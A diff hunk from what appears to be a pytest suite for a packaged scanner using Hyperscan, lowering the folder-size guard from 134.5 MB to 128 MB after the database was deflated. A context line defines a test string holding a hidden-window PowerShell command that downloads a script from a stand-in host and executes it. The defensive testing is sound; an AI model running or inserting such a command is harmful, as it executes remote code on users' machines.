@@ -44,8 +44,8 @@ pytestmark = [
 MALICIOUS = 'powershell -w h -c "iwr https://evil.test/a.ps1 | iex"'
 # bytes: a guard against the Linux folder growing unnoticed, NOT the size target. The target is
 # bench/package.py's SIZE_TARGET_MB (120 MB, issue 6), which the folder does not meet since
-# Hyperscan came (132.5 MB measured on a fresh build); this is that figure plus 2 MB
-MAX_SIZE = 134_500_000
+# Hyperscan came (126.0 MB measured on a fresh build, its database deflated); that plus 2 MB
+MAX_SIZE = 128_000_000
 MAX_READY_S = 3.0
 
 
